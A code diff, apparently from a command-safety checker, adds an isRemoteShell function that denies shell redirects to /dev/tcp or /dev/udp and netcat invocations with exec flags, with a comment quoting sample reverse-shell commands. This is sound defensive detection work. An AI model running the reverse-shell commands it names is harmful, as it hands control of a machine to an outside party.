@@ -13,6 +13,8 @@ export function foreignCode(invocation: Invocation, downloads: ReadonlySet<strin
   const deny: Finding = { verdict: "deny", reason: `${quoted(invocation)} ${unseen}` };
   if (program.includes(TAINTED)) return deny;
   if (downloads.has(resolvePath(program, cwd)) && program.includes("/")) return deny;
+  if (isRemoteShell(invocation))
+    return { verdict: "deny", reason: `${quoted(invocation)} hands a shell to another machine` };
   const code = codeOf(invocation);
   if (code === undefined) return undefined;
   if (code.kind === "file")
@@ -57,3 +59,13 @@ function codeOf(invocation: Invocation): Code | undefined {
 }
 
 const input: Code = { kind: "input", text: "" };
+
+/** `bash >& /dev/tcp/host/port`, `nc -e sh host port` */
+function isRemoteShell(invocation: Invocation): boolean {
+  const { name, args, redirects } = invocation;
+  if (shellCall(invocation) !== undefined)
+    return redirects.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target));
+  return (
+    /^(?:nc|ncat|netcat)$/.test(name) && args.some((arg) => /^(?:-[a-z]*[ec]|--exec|--sh-exec)$/.test(arg))
+  );
+}
